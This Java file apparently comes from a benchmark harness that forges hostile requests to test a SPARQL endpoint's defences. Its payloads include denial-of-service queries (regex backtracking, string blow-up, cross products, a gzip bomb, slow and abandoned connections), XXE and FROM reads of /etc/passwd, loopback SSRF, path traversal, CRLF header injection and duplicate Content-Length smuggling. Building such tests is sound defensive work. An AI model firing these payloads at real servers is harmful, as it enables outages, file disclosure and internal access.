package memcon.bench;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.regex.Pattern;
import java.util.zip.GZIPOutputStream;

/** What somebody who means no good sends: of every kind that the endpoint has a defence against. */
final class Attack {

    private static final int PACKED_MEGABYTES = 50;
    private static final int MEGA = 1 << 20;
    private static final int DEPTH = 9_000;
    private static final int DOUBLINGS = 40;

    /** How a request behaves once it is sent. */
    enum Manner {
        /** Waits for the answer. */
        WAITS,
        /** Sends its head letter by letter. */
        DRIBBLES,
        /** Does not take the answer. */
        READS_NOTHING,
        /** Goes away. */
        GOES_AWAY
    }

    /**
     * One request, ready for the wire.
     *
     * @param kind which attack it is
     * @param bytes all that is sent
     */
    @SuppressWarnings("ArrayRecordComponent")
    record Request(String kind, byte[] bytes, Manner manner) {}

    private final String host;
    private final int monitorPort;
    private final Map<String, String> queries = new LinkedHashMap<>();
    private final Map<String, byte[]> others = new LinkedHashMap<>();
    private final List<String> kinds;

    /**
     * @param monitorPort of the server itself, which SERVICE and FROM shall not reach
     * @param which the kinds that are sent
     */
    Attack(String host, int monitorPort, Pattern which) {
        this.host = host;
        this.monitorPort = monitorPort;
        forgeQueries();
        forgeOthers();
        kinds = all().stream().filter(which.asPredicate()).toList();
    }

    private List<String> all() {
        List<String> all = new ArrayList<>(queries.keySet());
        all.addAll(others.keySet());
        all.addAll(List.of("slow head", "slow reader", "abandoned query", "abandoned connection"));
        return all;
    }

    List<String> kinds() {
        return kinds;
    }

    Request any(Random random, String visitor) {
        String kind = kinds.get(random.nextInt(kinds.size()));
        return of(kind, visitor, random.nextInt(1_000_000));
    }

    private Request of(String kind, String visitor, int number) {
        String query = queries.get(kind);
        if (query != null) {
            return new Request(kind, post(query + "\n# " + number, visitor), Manner.WAITS);
        }
        byte[] other = others.get(kind);
        if (other != null) {
            String text = new String(other, StandardCharsets.ISO_8859_1).replaceFirst("VISITOR", visitor);
            return new Request(kind, text.getBytes(StandardCharsets.ISO_8859_1), Manner.WAITS);
        }
        return switch (kind) {
            case "slow head" ->
                new Request(kind, head("GET", "/", visitor, "").getBytes(StandardCharsets.US_ASCII), Manner.DRIBBLES);
            case "slow reader" ->
                new Request(
                        kind,
                        post("CONSTRUCT { ?s ?p ?o } WHERE { ?s ?p ?o } LIMIT 200000 # " + number, visitor),
                        Manner.READS_NOTHING);
            case "abandoned query" ->
                new Request(
                        kind, post(queries.get("cross product counted") + "# " + number, visitor), Manner.GOES_AWAY);
            default -> new Request(kind, "POST /sparql HTT".getBytes(StandardCharsets.US_ASCII), Manner.GOES_AWAY);
        };
    }

    private void forgeQueries() {
        String all = "{ ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }";
        queries.put("regular expression", "SELECT (REGEX(\"" + "a".repeat(40) + "X\", \"(.*a){20}b\") AS ?x) {}");
        queries.put(
                "regular expression in a filter",
                "SELECT * { ?s ?p ?o FILTER REGEX(CONCAT(STR(?o), \"" + "a".repeat(40) + "X\"), \"(.*a){20}b\") }");
        queries.put(
                "REPLACE that grows",
                "SELECT (STRLEN(REPLACE(REPLACE(REPLACE(\"" + "a".repeat(1000) + "\", \"a\", \"" + "b".repeat(1000)
                        + "\"), \"b\", \"" + "c".repeat(1000) + "\"), \"c\", \"" + "d".repeat(1000) + "\")) AS ?n) {}");
        queries.put("CONCAT that doubles", doubling("CONCAT(%s, %s)"));
        queries.put("huge OFFSET", "SELECT DISTINCT * " + all + " OFFSET 20000000");
        queries.put("cross product", "SELECT * " + all);
        queries.put("cross product counted", "SELECT (COUNT(*) AS ?n) " + all);
        queries.put("cross product grouped", "SELECT ?a ?d ?g (COUNT(*) AS ?n) " + all + " GROUP BY ?a ?d ?g");
        queries.put("cross product sorted", "SELECT * " + all + " ORDER BY DESC(?i) ?f ?c");
        queries.put("cross product told apart", "SELECT (COUNT(DISTINCT *) AS ?n) " + all);
        queries.put("cross product in one string", "SELECT (GROUP_CONCAT(?c) AS ?x) " + all);
        queries.put("cross product constructed", "CONSTRUCT { ?a ?e ?i } WHERE " + all);
        queries.put("cross product described", "DESCRIBE ?a ?d " + all);
        queries.put(
                "path through everything",
                "SELECT (COUNT(*) AS ?n) { ?a (!<x:y>|^!<x:y>)* ?b . ?b (!<x:y>|^!<x:y>)* ?c }");
        queries.put(
                "SERVICE to loopback",
                "SELECT * { SERVICE <http://127.0.0.1:" + monitorPort + "/metrics> { ?s ?p ?o } }");
        queries.put(
                "SERVICE, silent",
                "SELECT * { SERVICE SILENT <http://127.0.0.1:" + monitorPort + "/metrics> { ?s ?p ?o } }");
        queries.put("Java class as a function", "SELECT (<java:java.lang.System>(1) AS ?x) {}");
        queries.put("Java class as a predicate", "SELECT * { ?s <java:java.lang.System> ?o }");
        queries.put(
                "function that waits",
                "PREFIX afn: <http://jena.apache.org/ARQ/function#> SELECT (afn:wait(60000) AS ?x) {}");
        queries.put(
                "function that fills memory",
                "PREFIX afn: <http://jena.apache.org/ARQ/function#> SELECT (afn:sprintf(\"%300000000d\", 1) AS ?x) {}");
        queries.put("FROM a file", "SELECT * FROM <file:///etc/passwd> { ?s ?p ?o }");
        queries.put("FROM an address", "SELECT * FROM <http://127.0.0.1:" + monitorPort + "/metrics> { ?s ?p ?o }");
        queries.put("deep nesting", "SELECT * { " + "{".repeat(DEPTH) + "}".repeat(DEPTH) + " }");
        queries.put("deep expression", "SELECT (" + "(".repeat(DEPTH) + "1" + ")".repeat(DEPTH) + " AS ?x) {}");
        queries.put("deep negation", "SELECT (" + "!".repeat(DEPTH * 3) + "true AS ?x) {}");
        queries.put("no SPARQL", "SELECT <\u0000'\"");
    }

    private static String doubling(String function) {
        StringBuilder query = new StringBuilder("SELECT (STRLEN(?x" + DOUBLINGS + ") AS ?n) { BIND (\"ab\" AS ?x0) ");
        for (int i = 0; i < DOUBLINGS; i++) {
            query.append("BIND (" + String.format(function, "?x" + i, "?x" + i) + " AS ?x" + (i + 1) + ") ");
        }
        return query.append("}").toString();
    }

    private void forgeOthers() {
        String form = "Content-Type: application/x-www-form-urlencoded\r\n";
        put("update", withBody("POST", "/sparql", form, "update=DELETE+WHERE+%7B%3Fs+%3Fp+%3Fo%7D"));
        put(
                "update as a body",
                withBody(
                        "POST", "/sparql", "Content-Type: application/sparql-update\r\n", "DELETE WHERE { ?s ?p ?o }"));
        put(
                "graph written",
                withBody("PUT", "/sparql?default", "Content-Type: text/turtle\r\n", "<x:a> <x:b> <x:c> ."));
        put("graph read", head("GET", "/sparql?default", "VISITOR", ""));
        put("administration", head("GET", "/$/server", "VISITOR", ""));
        put(
                "RDF/XML with an entity",
                withBody(
                        "POST",
                        "/sparql",
                        "Content-Type: application/rdf+xml\r\n",
                        "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>"));
        put("body that bursts", withBody("POST", "/sparql", form + "Content-Encoding: gzip\r\n", packed()));
        put("body too long", withBody("POST", "/sparql", form, "query=" + "a".repeat(100_000)));
        put("body said to be huge", head("POST", "/sparql", "VISITOR", form + "Content-Length: 3000000000\r\n"));
        put(
                "body of unknown length",
                head("POST", "/sparql", "VISITOR", form + "Transfer-Encoding: chunked\r\n") + "0\r\n\r\n");
        put("head too long", head("GET", "/", "VISITOR", "X-Long: " + "a".repeat(100_000) + "\r\n"));
        put("address too long", head("GET", "/sparql?query=" + "a".repeat(100_000), "VISITOR", ""));
        put("path upwards", head("GET", "/..%2f..%2f..%2fetc/passwd", "VISITOR", ""));
        put("path upwards, plain", head("GET", "/../../../etc/passwd", "VISITOR", ""));
        put("path with a zero", head("GET", "/ontology%00.ttl", "VISITOR", ""));
        put("path with a new line", head("GET", "/a%0d%0aSet-Cookie:%20b=c", "VISITOR", ""));
        put(
                "two lengths",
                head("POST", "/sparql", "VISITOR", form + "Content-Length: 5\r\nContent-Length: 6\r\n") + "query=");
        put("no host", "GET / HTTP/1.1\r\n\r\n");
        put("no HTTP", "\u0016\u0003\u0001\u0002\u0000\r\n\r\n");
    }

    private void put(String kind, String request) {
        others.put(kind, request.getBytes(StandardCharsets.ISO_8859_1));
    }

    private String post(String kind, String path, String headers) {
        return head(kind, path, "VISITOR", headers);
    }

    private String withBody(String method, String path, String headers, String body) {
        return post(method, path, headers + "Content-Length: " + body.length() + "\r\n") + body;
    }

    private byte[] post(String query, String visitor) {
        byte[] body = query.getBytes(StandardCharsets.UTF_8);
        String head = head(
                "POST",
                "/sparql",
                visitor,
                "Content-Type: application/sparql-query\r\nAccept: */*\r\nContent-Length: " + body.length + "\r\n");
        byte[] start = head.getBytes(StandardCharsets.US_ASCII);
        byte[] all = Arrays.copyOf(start, start.length + body.length);
        System.arraycopy(body, 0, all, start.length, body.length);
        return all;
    }

    private String head(String method, String path, String visitor, String headers) {
        return method + " " + path + " HTTP/1.1\r\nHost: " + host + "\r\nX-Forwarded-For: " + visitor
                + "\r\nConnection: close\r\n" + headers + "\r\n";
    }

    private static String packed() {
        try {
            ByteArrayOutputStream bytes = new ByteArrayOutputStream();
            try (GZIPOutputStream zip = new GZIPOutputStream(bytes)) {
                for (int i = 0; i < PACKED_MEGABYTES; i++) {
                    zip.write(new byte[MEGA]);
                }
            }
            return bytes.toString(StandardCharsets.ISO_8859_1);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
